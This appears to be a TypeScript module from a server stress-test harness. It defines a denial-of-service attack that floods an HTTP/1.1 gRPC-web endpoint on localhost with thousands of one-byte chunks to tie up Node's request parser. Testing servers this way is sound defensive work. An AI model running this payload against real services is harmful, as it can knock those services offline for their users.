import { type Attack, CALL } from "./attack.js";

const HEAD = Buffer.from([0, 0, 0, 0xff, 0]);
/** Chunks of one octet, more than a connection may send. */
const COUNT = 3_000;
const CHUNKS = Buffer.from("1\r\n\0\r\n".repeat(COUNT));

/**
 * The same over HTTP/1.1: chunks of one octet, each of which takes Node's parser some 10 us. Over few connections, which
 * come again as soon as they are closed.
 */
export const oneOctetChunks: Attack = {
  name: "one-octet chunks, HTTP/1.1",
  connections: 4,
  protocol: "http/1.1",
  async run(connection) {
    const type = "Content-Type: application/grpc-web+proto";
    const head = [`POST ${CALL} HTTP/1.1`, "Host: localhost", type, "Transfer-Encoding: chunked"];
    const start = `5\r\n${HEAD.toString("latin1")}\r\n`;
    const bytes = Buffer.from([...head, "", start].join("\r\n"), "latin1");
    await connection.write(Buffer.concat([bytes, CHUNKS]), COUNT + 2);
    await connection.waitForEnd();
  },
};
